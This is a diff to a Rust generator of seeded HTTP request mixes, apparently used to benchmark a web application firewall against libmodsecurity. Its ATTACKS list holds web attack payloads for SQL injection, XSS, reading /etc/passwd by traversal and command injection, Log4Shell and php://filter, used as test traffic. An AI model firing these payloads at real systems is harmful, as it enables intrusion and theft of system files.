@@ -1,58 +1,73 @@
 //! Requests of each kind, made by code from a seed, as `peers/libmodsecurity/driver.c` reads them.
+//!
+//! No two have the same parameters or the same session, and each kind is more than our engine
+//! remembers of values: what it knows from a round before helps it no more than it would with
+//! as many different visitors.
 
 use std::fmt::Write;
 use std::path::{Path, PathBuf};
 
-/// Equal kinds of requests in a file.
+/// Requests of one kind in a file.
 pub(crate) struct Mix {
     pub(crate) name: &'static str,
     pub(crate) file: PathBuf,
     pub(crate) requests: f64,
+    /// The first of them, for engines that take long.
+    pub(crate) short: PathBuf,
+    pub(crate) short_requests: f64,
     pub(crate) attacks: bool,
 }
 
 type Make = fn(&mut Seed) -> Vec<u8>;
 
 const MIXES: &[(&str, u32, Make)] = &[
-    ("mixed", 100, mixed),
-    ("GET", 50, get),
-    ("form", 50, form),
-    ("JSON, 2 kB", 20, |seed| order(seed, 31)),
-    ("JSON, 64 kB", 2, |seed| order(seed, 1_050)),
-    ("multipart", 20, multipart),
-    ("attacks", 50, attack),
+    ("mixed", 600, mixed),
+    ("GET", 600, get),
+    ("form", 400, form),
+    ("JSON, 2 kB", 100, |seed| order(seed, 31)),
+    ("JSON, 64 kB", 4, |seed| order(seed, 1_050)),
+    ("multipart", 200, multipart),
+    ("attacks", 600, attack),
 ];
+/// The part of them that is written apart.
+const SHORT: u32 = 20;
 
 const WORDS: &[&str] = &[
     "garden", "chair", "blue", "large", "oak", "table", "lamp", "kitchen", "wooden", "outdoor",
     "metal", "soft", "warm", "winter", "summer", "price", "street", "city", "gift", "paper",
 ];
 
+/// With a number for each `#`.
 const ATTACKS: &[&str] = &[
-    "1%27%20or%20%271%27=%271",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "../../../../etc/passwd",
-    ";cat%20/etc/passwd",
-    "1%20union%20select%20password%20from%20users",
-    "%24%7Bjndi:ldap://x.example/a%7D",
-    "php://filter/convert.base64-encode/resource=index",
-    "%7B%7B7*7%7D%7D%3Cimg%20src=x%20onerror=alert(1)%3E",
+    "#%27%20or%20%27#%27=%27#",
+    "%3Cscript%3Ealert(#)%3C/script%3E",
+    "../../../../etc/passwd%00#",
+    "#;cat%20/etc/passwd",
+    "#%20union%20select%20password#%20from%20users",
+    "%24%7Bjndi:ldap://x#.example/a%7D",
+    "php://filter/convert.base64-encode/resource=index#",
+    "%7B%7B#*#%7D%7D%3Cimg%20src=x#%20onerror=alert(#)%3E",
 ];
 
 /// Writes each mix to a file of the folder.
 pub(crate) fn write(folder: &Path) -> anyhow::Result<Vec<Mix>> {
     let mut seed = Seed(5);
     let mut mixes = Vec::new();
-    for (at, (name, requests, make)) in MIXES.iter().enumerate() {
-        let file = folder.join(format!("mix-{at}"));
-        let bytes: Vec<u8> = (0..*requests).flat_map(|_| make(&mut seed)).collect();
-        std::fs::write(&file, bytes)?;
-        mixes.push(Mix {
+    for (at, (name, count, make)) in MIXES.iter().enumerate() {
+        let requests: Vec<Vec<u8>> = (0..*count).map(|_| make(&mut seed)).collect();
+        let few = count.div_ceil(SHORT);
+        let short = requests.get(..few as usize).unwrap_or_default();
+        let mix = Mix {
             name,
-            file,
-            requests: f64::from(*requests),
+            file: folder.join(format!("mix-{at}")),
+            requests: f64::from(*count),
+            short: folder.join(format!("mix-{at}-short")),
+            short_requests: f64::from(few),
             attacks: *name == "attacks",
-        });
+        };
+        std::fs::write(&mix.file, requests.concat())?;
+        std::fs::write(&mix.short, short.concat())?;
+        mixes.push(mix);
     }
     Ok(mixes)
 }
@@ -101,12 +116,14 @@ fn get(seed: &mut Seed) -> Vec<u8> {
         seed.one(&["price", "name", "date"]),
         seed.below(1 << 32)
     );
-    request("GET", &target, None)
+    request(seed, "GET", &target, None)
 }
 
 fn attack(seed: &mut Seed) -> Vec<u8> {
-    let target = format!("/search?q={}&page={}", seed.one(ATTACKS), seed.below(90));
-    request("GET", &target, None)
+    let number = seed.below(1 << 32).to_string();
+    let attack = seed.one(ATTACKS).replace('#', &number);
+    let target = format!("/search?q={attack}&page={}", seed.below(90));
+    request(seed, "GET", &target, None)
 }
 
 fn form(seed: &mut Seed) -> Vec<u8> {
@@ -120,7 +137,7 @@ fn form(seed: &mut Seed) -> Vec<u8> {
         seed.below(usize::MAX)
     );
     let kind = "application/x-www-form-urlencoded";
-    request("POST", "/checkout/address", Some((kind, &body)))
+    request(seed, "POST", "/checkout/address", Some((kind, &body)))
 }
 
 /// A document with three leaves for each item, and five more.
@@ -146,7 +163,12 @@ fn order(seed: &mut Seed, items: usize) -> Vec<u8> {
         seed.words(8, " "),
         seed.below(9999)
     );
-    request("POST", "/api/v1/orders", Some(("application/json", &body)))
+    request(
+        seed,
+        "POST",
+        "/api/v1/orders",
+        Some(("application/json", &body)),
+    )
 }
 
 fn multipart(seed: &mut Seed) -> Vec<u8> {
@@ -164,11 +186,20 @@ fn multipart(seed: &mut Seed) -> Vec<u8> {
     ]
     .concat();
     let kind = "multipart/form-data; boundary=form-boundary-7";
-    request("POST", "/albums/photos", Some((kind, &body)))
+    request(seed, "POST", "/albums/photos", Some((kind, &body)))
 }
 
 /// With a browser's twelve headers, and those of a body.
-fn request(method: &str, target: &str, body: Option<(&str, &str)>) -> Vec<u8> {
+fn request(seed: &mut Seed, method: &str, target: &str, body: Option<(&str, &str)>) -> Vec<u8> {
+    let referer = format!("https://shop.example.org/catalogue?page={}", seed.below(90));
+    let cookie = format!(
+        "session={:016x}{:016x}; theme=dark; cart={}-{}-{}",
+        seed.below(usize::MAX),
+        seed.below(usize::MAX),
+        seed.below(99),
+        seed.below(9),
+        seed.below(999),
+    );
     let mut headers = vec![
         ("Host", "shop.example.org"),
         (
@@ -181,11 +212,8 @@ fn request(method: &str, target: &str, body: Option<(&str, &str)>) -> Vec<u8> {
         ),
         ("Accept-Language", "en-US,en;q=0.5"),
         ("Accept-Encoding", "gzip, deflate, br"),
-        ("Referer", "https://shop.example.org/catalogue?page=3"),
-        (
-            "Cookie",
-            "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; cart=17-3-22",
-        ),
+        ("Referer", &*referer),
+        ("Cookie", &*cookie),
         ("Connection", "keep-alive"),
         ("Upgrade-Insecure-Requests", "1"),
         ("Sec-Fetch-Dest", "document"),
